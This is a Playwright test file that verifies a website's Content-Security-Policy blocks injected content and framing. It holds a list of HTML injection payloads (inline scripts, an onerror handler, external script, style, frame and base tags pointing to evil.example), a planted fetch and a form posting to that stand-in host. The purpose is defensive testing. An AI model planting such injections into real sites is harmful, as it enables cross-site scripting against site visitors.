/** The Content-Security-Policy in the browser: it blocks everything except the site's own files. */
import { once } from 'node:events';
import { globSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { pagePath } from '../../src/hosts/builtSite.ts';
import { root } from '../site.ts';
import { alive, everyPage, expect, test } from './test.ts';

const dist = join(root, 'dist');
const urls = [...globSync('**/*.html', { cwd: dist }).map((file) => pagePath(file, '/')), '/no/such/page'];

declare global {
  var blocked: string[];
  var ran: unknown;
  // TypeScript doesn't have these types yet.
  var trustedTypes: { createPolicy(name: string, rules: Record<string, (text: string) => string>): unknown };
}

/** Stores what the browser blocks in the page's `blocked`: the directive, and `inline` or the host. */
function watchBlocked(page: Page) {
  return page.addInitScript(() => {
    globalThis.blocked = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      blocked.push(`${effectiveDirective} ${URL.parse(blockedURI)?.host ?? blockedURI}`),
    );
  });
}

const inPage = (html: string) => /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1];

test('blocks nothing of any page, by header or meta tag', async ({ page, browserName }) => {
  test.slow();
  await watchBlocked(page);
  await page.setViewportSize({ width: 390, height: 844 });
  let clicked = 0;
  // Other engines test one page of each kind.
  for (const url of browserName === 'chromium' ? urls : everyPage) {
    const response = await page.goto(url);
    const policy = inPage(await page.content());
    expect(policy, url).toContain("default-src 'none'");
    // The header allows the styles of all pages, a page only its own. On loopback, the server omits directives that need TLS.
    const header = response?.headers()['content-security-policy'];
    for (const source of `${policy}; frame-ancestors 'none'`.split('; ').flatMap((part) => part.split(' ')))
      expect(header, url).toContain(source);
    await alive(page);
    await page.getByRole('button', { name: 'Menu' }).click();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'Dark theme' }).click();
    const filters = await page.getByRole('group').getByRole('button').all();
    for (const filter of filters) await filter.click();
    clicked += filters.length;
    expect(await page.evaluate(() => blocked), url).toEqual([]);
  }
  expect(clicked, 'filters').toBeGreaterThan(0);
});

/** HTML that an attacker could inject into a page, by the directive that blocks it. */
const injections = {
  'script-src-elem inline': '<script>ran = 1</script>',
  'script-src-elem evil.example': '<script src="https://evil.example/x.js"></script>',
  'script-src-attr inline': '<img src="/none.png" alt="" onerror="ran = 1">',
  'style-src-elem inline': '<style>body { display: none }</style>',
  'style-src-elem evil.example': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'style-src-attr inline': '<p style="display: none">x</p>',
  'img-src evil.example': '<img src="https://evil.example/x.png" alt="">',
  'frame-src evil.example': '<iframe src="https://evil.example/" title="x"></iframe>',
  'object-src evil.example': '<object data="https://evil.example/x"></object>',
  'base-uri evil.example': '<base href="https://evil.example/">',
};

test.describe("the page's own policy, which the header's contains", () => {
  /** Opens Contact without the header's policy, and with injected HTML. */
  async function openWith(page: Page, planted: string) {
    await watchBlocked(page);
    await page.route('**/contact', async (route) => {
      const response = await route.fetch();
      const { 'content-security-policy': _, ...headers } = response.headers();
      const html = await response.text();
      await route.fulfill({ response, headers, body: html.replace('</main>', () => `${planted}</main>`) });
    });
    await page.goto('/contact');
  }
  const blockedIn = (page: Page) => page.evaluate(() => [...new Set(blocked)]);

  test.beforeEach(({ expected }) => {
    expected.push(/./);
  });

  test('blocks scripts and styles planted into the page', async ({ page }) => {
    await openWith(page, Object.values(injections).join('\n'));
    await expect.poll(async () => (await blockedIn(page)).sort()).toEqual(Object.keys(injections).sort());
    expect(await page.evaluate(() => globalThis.ran)).toBeUndefined();
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  });

  test('blocks the actions of a planted script', async ({ page }) => {
    await openWith(page, '');
    const thrown = await page.evaluate(() => {
      const attempts = [
        () => document.body.insertAdjacentHTML('beforeend', '<p>x</p>'),
        () => Object.assign(document.createElement('script'), { src: '/_astro/x.js' }),
        () => trustedTypes.createPolicy('x', { createHTML: (html) => html }),
        () => setTimeout('ran = 1'),
      ];
      return attempts.map((attempt) => {
        try {
          attempt();
          return 'nothing';
        } catch (error) {
          return (error as Error).name;
        }
      });
    });
    expect(thrown).toEqual(['TypeError', 'TypeError', 'TypeError', expect.stringMatching(/TypeError|EvalError/)]);
    expect(await page.evaluate(() => fetch('https://evil.example/').catch(() => 'blocked'))).toBe('blocked');
    expect(await blockedIn(page)).toEqual(
      expect.arrayContaining(['connect-src evil.example', 'trusted-types trusted-types-policy']),
    );
  });

  test('sends forms nowhere but to the service and the site', async ({ page }) => {
    await openWith(page, '<form method="post" action="https://evil.example/"><button>Take this</button></form>');
    // Playwright would wait for the blocked navigation.
    await page.getByRole('button', { name: 'Take this' }).click({ noWaitAfter: true });
    await expect.poll(() => blockedIn(page)).toContain('form-action evil.example');
    const allowed = inPage(readFileSync(join(dist, 'contact.html'), 'utf8'))?.match(/form-action ([^;]*)/)?.[1];
    expect(allowed).toBe("'self' https://formsubmit.co");
  });
});

test('no other site can frame a page', async ({ page, baseURL, expected }) => {
  expected.push(/./);
  const other = createServer((_, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end(`<iframe src="${baseURL}/contact"></iframe>`);
  }).listen(0, '127.0.0.1');
  await once(other, 'listening');
  await page.goto(`http://localhost:${(other.address() as AddressInfo).port}/`);
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^(chrome-error:|about:neterror)/);
  other.close();
});
